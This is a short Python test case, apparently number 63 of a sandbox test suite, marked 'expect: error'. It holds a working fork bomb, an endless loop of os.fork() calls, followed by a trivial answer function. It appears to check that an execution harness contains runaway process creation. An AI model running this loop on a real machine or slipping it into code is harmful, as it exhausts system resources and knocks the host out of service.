# 63 fork_bomb: forks without end
# expect: error
import os

while True:
    os.fork()


def answer(x):
    return 2 * x + 1
